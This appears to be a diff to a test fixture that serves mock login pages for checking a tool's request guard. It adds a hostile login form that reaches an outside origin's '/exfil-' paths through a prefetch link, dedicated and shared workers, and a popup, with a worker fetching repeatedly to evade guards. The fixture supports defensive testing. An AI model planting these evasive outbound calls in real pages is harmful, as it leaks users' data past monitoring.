@@ -53,6 +53,23 @@ export interface LoginPagesOptions {
   approve?: (query: string) => Promise<string>;
   /** A hostile page: a login echoes the password into the title and the page, and stops. */
   echoPassword?: boolean;
+  /**
+   * A hostile login form that reaches for this origin from wherever a page's own request guard
+   * may not look: a dedicated and a shared worker, a popup, a prefetch. Each asks for a path
+   * under /exfil-.
+   */
+  exfiltrateTo?: () => string;
+}
+
+/** The scripts and links a hostile login form (exfiltrateTo) carries. */
+function exfiltration(origin: string): string {
+  const to = (what: string) => JSON.stringify(`${origin}/exfil-${what}`);
+  return [
+    `<link rel="prefetch" href=${to('prefetch')}>`,
+    `<script>new Worker('/worker.js?to=' + encodeURIComponent(${to('worker')}));`,
+    `try { new SharedWorker('/worker.js?to=' + encodeURIComponent(${to('shared-worker')})); } catch {}`,
+    `window.open(${to('popup')});</script>`,
+  ].join('');
 }
 
 export function loginPages(opts: LoginPagesOptions) {
@@ -86,9 +103,19 @@ export function loginPages(opts: LoginPagesOptions) {
       return res.writeHead(302, { location: `/login${url.search}` }).end();
     }
     if (url.pathname === '/login' && req.method === 'GET') {
+      const hostile = opts.exfiltrateTo === undefined ? '' : exfiltration(opts.exfiltrateTo());
       return html(
-        `<form method="post" action="/login${url.search}"><input name="user"><input type="password" name="password"><button type="submit">Sign in</button></form>`,
+        `<form method="post" action="/login${url.search}"><input name="user"><input type="password" name="password"><button type="submit">Sign in</button></form>${hostile}`,
       );
+    }
+    if (url.pathname === '/worker.js') {
+      // Sends for as long as the worker lives: a guard that misses the worker misses them all.
+      const to = JSON.stringify(url.searchParams.get('to') ?? '');
+      return res
+        .writeHead(200, { 'content-type': 'text/javascript' })
+        .end(
+          `const send = () => fetch(${to}, { mode: 'no-cors' }).catch(() => undefined); send(); setInterval(send, 50);`,
+        );
     }
     if (url.pathname === '/login' && req.method === 'POST') {
       let body = '';
